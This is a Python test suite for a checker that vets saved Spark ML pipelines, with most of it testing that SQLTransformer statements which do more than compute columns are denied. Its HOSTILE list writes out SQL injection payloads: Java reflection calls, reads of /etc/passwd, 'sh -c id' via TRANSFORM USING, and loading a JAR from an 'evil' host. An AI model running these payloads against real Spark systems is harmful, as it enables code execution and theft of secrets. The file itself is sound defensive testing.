"""Spark pipelines: the exact classes of each release, at any depth, and SQL by a grammar."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from compiler.diagnostics import CompilerError
from compiler.frameworks import inspect_model
from compiler.frameworks.allowed import words
from compiler.readers.spark_sql.grammar import why_not

ML = "org.apache.spark.ml."
SQL = ML + "feature.SQLTransformer"


def stage(folder: Path, class_name: str, version: str = "3.5.1", **parameters: Any) -> Path:
    entry = {"class": class_name, "uid": folder.name.partition("_")[2] or "p", "sparkVersion": version}
    entry |= {"paramMap": parameters, "defaultParamMap": {}}
    (folder / "metadata").mkdir(parents=True)
    (folder / "metadata" / "part-00000").write_text(json.dumps(entry))
    return folder


def pipeline(folder: Path, *classes: str, version: str = "3.5.1", **parameters: Any) -> Path:
    uids = [f"stage{number}" for number, _ in enumerate(classes)]
    stage(folder, ML + "PipelineModel", version, stageUids=uids)
    for number, (name, uid) in enumerate(zip(classes, uids, strict=True)):
        stage(folder / "stages" / f"{number}_{uid}", name, version, **parameters)
    return folder


def answer(path: Path) -> str:
    """The codes and messages of a refusal, or the unknown names with their places."""
    try:
        facts = inspect_model(path)
        return "unknown " + ", ".join(f"{name} ({facts.places[name]})" for name in facts.unknown)
    except CompilerError as error:
        (problem,) = error.diagnostics
        return f"{problem.code} {problem.message}"


ORDINARY = [
    "SELECT *, a + b AS ab FROM __THIS__",
    "select *, log(v1 + 1.0e-3) as `l g`, coalesce(x, 0) x2 from __THIS__ t;",
    "SELECT CASE WHEN a > 1 AND b NOT IN (1, 2) THEN 'it''s' ELSE \"z\\\"\" END, CAST(a AS DECIMAL(9)) FROM __THIS__",
    "SELECT a FROM __THIS__ WHERE a IS NOT NULL AND b BETWEEN 1 AND 2 + 3 OR NOT c LIKE '%x' AND d <=> e",
    "SELECT c, avg(a), count(DISTINCT b) n FROM __THIS__ GROUP BY c HAVING count(*) > 1 ORDER BY c DESC LIMIT 10",
    "SELECT transform(arr, x -> x + 1), aggregate(a, 0, (acc, x) -> acc + x), a[0].b, m['k'] FROM __THIS__",
    "SELECT date '2020-01-01', interval 1 day, if(a > 0, 1, 0), left(s, 2), extract(year FROM d), a::int FROM __THIS__",
    "SELECT row_number() OVER (PARTITION BY a ORDER BY b DESC NULLS LAST) AS n, t.* FROM __THIS__ AS t",
    "SELECT CAST(a AS ARRAY<MAP<STRING, INT>>), -a % 2 = 0, ~b | 1, a || 'x' FROM __THIS__",
    "SELECT regexp_replace(name, '[^a-z]+', '') AS name, length(trim(name)) / 2 AS half FROM __THIS__",
]
HOSTILE = [
    "SELECT java_method('java.lang.Runtime', 'getRuntime') FROM __THIS__",
    "SELECT REFLECT ('java.lang.System', 'getenv') FROM __THIS__",
    "SELECT try_reflect('java.lang.System', 'exit', 1) FROM __THIS__",
    "SELECT `java_method`('x', 'y') FROM __THIS__",
    "SELECT system.builtin.reflect('x', 'y') FROM __THIS__",
    "SELECT IDENTIFIER('java_' || 'method')('x', 'y') FROM __THIS__",
    "SELECT my_udf(a) FROM __THIS__",
    "SELECT * FROM text.`/etc/passwd`",
    "SELECT * FROM __THIS__, csv.`/etc/passwd`",
    "SELECT * FROM __THIS__ JOIN binaryFile.`/etc/passwd`",
    "SELECT * FROM IDENTIFIER('text.`/etc/passwd`')",
    "SELECT * FROM other",
    "SELECT * FROM range(10)",
    "SELECT * FROM (SELECT * FROM __THIS__)",
    "SELECT (SELECT max(value) FROM text.`/etc/passwd`) FROM __THIS__",
    "SELECT a IN (SELECT b FROM c) FROM __THIS__",
    "SELECT a FROM __THIS__ WHERE EXISTS (SELECT 1)",
    "SELECT a FROM __THIS__ UNION ALL SELECT value FROM text.`/etc/passwd`",
    "WITH t AS (SELECT 1) SELECT * FROM __THIS__",
    "SELECT TRANSFORM(a) USING 'sh -c id' AS (b) FROM __THIS__",
    "SELECT MAP a, b USING 'sh -c id' FROM __THIS__",
    "FROM __THIS__ SELECT TRANSFORM(a) USING 'sh'",
    "SELECT a FROM __THIS__ LATERAL VIEW explode(b) t AS c",
    "SELECT a FROM __THIS__; CREATE TABLE t USING csv LOCATION '/tmp/x' AS SELECT 1",
    "INSERT OVERWRITE DIRECTORY '/tmp/x' USING csv SELECT * FROM __THIS__",
    "CREATE FUNCTION f AS 'evil.F' USING JAR 'http://evil/x.jar'",
    "ADD JAR 'http://evil/x.jar'",
    "SET spark.sql.extensions=evil.X",
    "SELECT /*+ BROADCAST(t) */ a FROM __THIS__",
    "SELECT a -- FROM x\n FROM __THIS__",
    "SELECT '${env:SECRET}' FROM __THIS__",
    "SELECT r'\\', java_method('x', 'y'), '' FROM __THIS__",
    "SELECT input_file_name() FROM __THIS__",
    "SELECT xpath_string(a, 'b') FROM __THIS__",
    "SELECT from_protobuf(a, 'M', '/etc/passwd') FROM __THIS__",
    "SELECT a |> b FROM __THIS__",
    "SELECT :a FROM __THIS__",
    "SELECT " + "(" * 100_00 + "a" + ")" * 100_00 + " FROM __THIS__",
    "SELECT " + "a, " * 100_000 + "a FROM __THIS__",
    "SELECT a",
    "",
]  # fmt: skip


@pytest.mark.parametrize("statement", ORDINARY)
def test_ordinary_sql_is_known(statement: str, tmp_path: Path) -> None:
    assert answer(pipeline(tmp_path / "m", SQL, statement=statement)) == "unknown "


@pytest.mark.parametrize("statement", HOSTILE, ids=range(len(HOSTILE)))
def test_sql_that_does_more_is_denied_with_its_place(statement: str, tmp_path: Path) -> None:
    found = answer(pipeline(tmp_path / "m", SQL, statement=statement))
    assert found.startswith(
        "MF204 the model is denied: 'stage0' does more than compute columns of __THIS__: its SQL has "
    )
    assert found.endswith("(stages/0_stage0)")


def test_statements_are_judged_at_any_depth(tmp_path: Path) -> None:
    folder = pipeline(tmp_path / "m", ML + "tuning.CrossValidatorModel")
    stage(folder / "stages" / "0_stage0" / "bestModel", SQL, statement="SELECT * FROM text.`/etc/passwd`")
    assert answer(folder).endswith("(stages/0_stage0/bestModel)")


def test_the_exact_classes_of_a_release(tmp_path: Path) -> None:
    for number, (name, version, known) in enumerate([
        (ML + "feature.Tokenizer", "3.0.0", True),
        (ML + "feature.TargetEncoderModel", "4.0.0", True),
        (ML + "feature.TargetEncoderModel", "3.5.1", False),
        (ML + "feature.Evil", "4.3.0", False),
        (ML + "r.RWrapperUtils", "4.3.0", False),
        ("pyspark.ml.pipeline.PipelineModel", "4.0.0", True),
        ("pyspark.ml.connect.classification.LogisticRegressionModel", "4.0.0", False),
        ("pyspark.ml.evil.Stage", "4.0.0", False),
        ("evil.Stage", "4.0.0", False),
    ]):  # fmt: skip
        folder = pipeline(tmp_path / str(number), ML + "clustering.KMeansModel", version=version)
        stage(folder / "stages" / "0_stage0" / "inner", name, version)
        assert answer(folder) == "unknown " + ("" if known else f"{name} (stages/0_stage0/inner)")


def test_parameters_that_are_read_from_elsewhere(tmp_path: Path) -> None:
    maps = [[{"parent": "x", "name": "estimator", "value": "../../../other", "isJson": "false"}]]
    folder = pipeline(tmp_path / "m", ML + "tuning.CrossValidatorModel", estimatorParamMaps=maps)
    assert answer(folder) == "MF204 the model is denied: a parameter is read from '../../../other' (stages/0_stage0)"


def another_file(metadata: Path) -> None:
    (metadata / "a").write_text(json.dumps({"class": "evil.Stage"}))


def another_part(metadata: Path) -> None:
    (metadata / "part-00001").write_text(json.dumps({"class": "evil.Stage"}))


def a_key_twice(metadata: Path) -> None:
    part = metadata / "part-00000"
    part.write_text('{"class": "evil.Stage", ' + part.read_text()[1:])


def a_second_line(metadata: Path) -> None:
    part = metadata / "part-00000"
    part.write_text('{"class": "evil.Stage"}\n' + part.read_text())


@pytest.mark.parametrize("change", [another_file, another_part, a_key_twice, a_second_line])
def test_metadata_that_two_readers_read_differently(change: Any, tmp_path: Path) -> None:
    folder = pipeline(tmp_path / "m", ML + "feature.Tokenizer")
    assert answer(folder) == "unknown "
    change(folder / "stages" / "0_stage0" / "metadata")
    assert answer(folder).startswith("MF203 ")


PIECES = [
    "SELECT", "FROM", "__THIS__", "a", "`b`", "java_method", "reflect", "(", ")", ",", "'x'", "text.`/x`", "*",
    "USING", "TRANSFORM", "IDENTIFIER", "WHERE", "GROUP BY", "AS", "OVER", "EXISTS", "IN", ".", "->", ";", "1", "||",
    "log",
]  # fmt: skip


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=14))
def test_whatever_parses_calls_only_listed_functions_and_reads_one_table(pieces: list[str]) -> None:
    """The grammar against a plain look at the text: what stands before a bracket, and behind FROM."""
    statement = " ".join(["SELECT", *pieces, "FROM __THIS__"])
    if why_not(statement, words("spark/functions")) is None:
        called = {name.lower() for name in re.findall(r"(\w+) \(", statement)} - {
            "as",
            "in",
            "over",
            "select",
            "where",
            "by",
        }
        assert called <= words("spark/functions")
        assert re.findall(r"FROM (\S+)", statement) == ["__THIS__"]
        assert not re.search(r"` \(|USING|IDENTIFIER \(", statement)
